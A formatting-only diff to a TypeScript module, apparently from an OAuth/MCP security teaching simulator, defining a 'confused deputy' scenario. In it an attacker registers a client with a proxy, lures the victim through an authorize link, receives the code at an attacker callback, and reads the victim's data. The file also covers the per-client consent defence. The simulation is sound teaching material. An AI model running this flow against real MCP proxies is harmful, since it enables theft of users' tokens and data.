@@ -19,12 +19,16 @@ const received = new WeakMap<object, URL>();
 export const confusedDeputy: AttackDef = {
   id: 'confused-deputy',
   title: 'Confused deputy: an MCP proxy without per-client consent',
-  summary: 'The attacker registers a client with an MCP proxy and sends the victim a link; the third-party server remembers the victim\'s consent for the proxy, so nothing is shown.',
+  summary:
+    "The attacker registers a client with an MCP proxy and sends the victim a link; the third-party server remembers the victim's consent for the proxy, so nothing is shown.",
   target: 'mcp',
   rules: ['S-16', 'S-17'],
   lesson: 'rules-and-attacks',
   preconditions: [],
-  defence: { label: 'The proxy asks the user to approve each client before going upstream', vulnerabilities: ['proxy-no-per-client-consent'] },
+  defence: {
+    label: 'The proxy asks the user to approve each client before going upstream',
+    vulnerabilities: ['proxy-no-per-client-consent'],
+  },
   victim: { scenario: 'first-connection', registration: 'dcr' },
   lanes: ['attacker'],
   hosts: (world) => [
@@ -38,12 +42,17 @@ export const confusedDeputy: AttackDef = {
   async prepare(world, attacker) {
     // Precondition 3: last week the victim approved the proxy at the third-party server, which remembers.
     world.as.rememberedConsents.add(`${DEMO_USER.sub} ${PROXY_CLIENT_ID}`);
-    await attacker.note('Knows the setup', 'The victim uses Files MCP Proxy, which signs users in at auth.example.com as one static client, "mcp-proxy"; auth.example.com remembers that the victim approved it.');
+    await attacker.note(
+      'Knows the setup',
+      'The victim uses Files MCP Proxy, which signs users in at auth.example.com as one static client, "mcp-proxy"; auth.example.com remembers that the victim approved it.',
+    );
   },
   decide: (prompt) => (prompt.clientName === 'Helpful Tool' ? 'deny' : undefined),
   explain: {
-    vulnerable: 'The third-party server saw its familiar client "mcp-proxy" and a remembered consent, so it redirected straight back; the proxy minted a code for the attacker\'s client and sent it to her. The victim never saw a screen.',
-    defended: 'S-16: the proxy found no approval by this user for "Helpful Tool" and showed its own consent page naming the client and the redirect host. The victim declined, and the attacker got access_denied.',
+    vulnerable:
+      'The third-party server saw its familiar client "mcp-proxy" and a remembered consent, so it redirected straight back; the proxy minted a code for the attacker\'s client and sent it to her. The victim never saw a screen.',
+    defended:
+      'S-16: the proxy found no approval by this user for "Helpful Tool" and showed its own consent page naming the client and the redirect host. The victim declined, and the attacker got access_denied.',
   },
   async act({ world, attacker, browser }) {
     const reg = await attacker.fetch(`${world.urls.proxy}/register`, {
@@ -54,20 +63,44 @@ export const confusedDeputy: AttackDef = {
       body: JSON.stringify({ redirect_uris: [ATTACKER_CALLBACK], client_name: 'Helpful Tool' }),
     });
     const registered: unknown = await reg.json().catch(() => ({}));
-    const clientId = typeof registered === 'object' && registered !== null && 'client_id' in registered ? String(registered.client_id) : '';
+    const clientId =
+      typeof registered === 'object' && registered !== null && 'client_id' in registered
+        ? String(registered.client_id)
+        : '';
     const verifier = createVerifier(world.rng('attacker'));
     const link = new URL(`${world.urls.proxy}/authorize`);
-    const params = { response_type: 'code', client_id: clientId, redirect_uri: ATTACKER_CALLBACK, code_challenge: await challengeS256(verifier), code_challenge_method: 'S256', state: 's' };
+    const params = {
+      response_type: 'code',
+      client_id: clientId,
+      redirect_uri: ATTACKER_CALLBACK,
+      code_challenge: await challengeS256(verifier),
+      code_challenge_method: 'S256',
+      state: 's',
+    };
     for (const [k, v] of Object.entries(params)) link.searchParams.set(k, v);
-    await attacker.note('Sends the victim a link', 'A "connect Helpful Tool" button on a web page points at the proxy\'s real authorization endpoint.', { values: { client_id: clientId } });
+    await attacker.note(
+      'Sends the victim a link',
+      'A "connect Helpful Tool" button on a web page points at the proxy\'s real authorization endpoint.',
+      { values: { client_id: clientId } },
+    );
     await browser.navigate(link.href, { mark: 'attacker' });
     const code = received.get(world)?.searchParams.get('code');
-    if (!code) return { attackerWon: false, evidence: `No code reached the attacker (${received.get(world)?.searchParams.get('error') ?? 'no redirect'}).` };
-    const res = await attacker.token({ grant_type: 'authorization_code', code, code_verifier: verifier, client_id: clientId }, `${world.urls.proxy}/token`);
+    if (!code)
+      return {
+        attackerWon: false,
+        evidence: `No code reached the attacker (${received.get(world)?.searchParams.get('error') ?? 'no redirect'}).`,
+      };
+    const res = await attacker.token(
+      { grant_type: 'authorization_code', code, code_verifier: verifier, client_id: clientId },
+      `${world.urls.proxy}/token`,
+    );
     const token = typeof res.body.access_token === 'string' ? res.body.access_token : null;
     const call = await attacker.callTool(token, 'fetch_report', {}, `${world.urls.proxy}/mcp`);
     return call.status === 200 && !call.isError && call.text.includes(DEMO_USER.sub)
-      ? { attackerWon: true, evidence: `With a proxy token minted for "Helpful Tool", the attacker read the victim's report: ${short(call.text, 30)}` }
+      ? {
+          attackerWon: true,
+          evidence: `With a proxy token minted for "Helpful Tool", the attacker read the victim's report: ${short(call.text, 30)}`,
+        }
       : { attackerWon: false, evidence: `The proxy token did not work (${call.status}).` };
   },
 };
